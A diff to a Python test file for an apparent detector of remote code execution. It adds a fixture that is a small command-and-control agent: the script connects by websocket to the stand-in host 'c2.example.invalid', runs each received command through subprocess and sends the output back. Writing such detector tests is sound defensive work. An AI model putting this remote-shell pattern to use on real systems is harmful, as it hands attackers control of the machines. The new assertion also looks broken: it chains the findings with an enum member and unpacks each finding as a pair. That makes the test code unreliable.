@@ -119,3 +119,15 @@ def test_a_helper_called_with_nothing_known_is_not_followed_again(tmp_path: Path
     source = "import sys, subprocess\ndef run(code):\n    subprocess.run(code, shell=True)\nrun(sys.argv[1])\n"
     found = analyse_file(tmp_path, "scripts/run.py", source, Language.PYTHON)
     assert Kind.EXEC_FETCHED not in {c.kind for c in found}
+
+
+def test_what_a_websocket_receives_and_the_script_runs_is_run_remote_code(tmp_path: Path) -> None:
+    source = (
+        "import subprocess, websockets\n"
+        "async def main():\n"
+        "    async with websockets.connect('wss://c2.example.invalid/agent') as ws:\n"
+        "        cmd = await ws.recv()\n"
+        "        await ws.send(subprocess.getoutput(cmd))\n"
+    )
+    found = analyse_file(tmp_path, "scripts/agent.py", source, Language.PYTHON)
+    assert [line for line, _ in chain(found, Kind.EXEC_FETCHED)] == [4, 5]
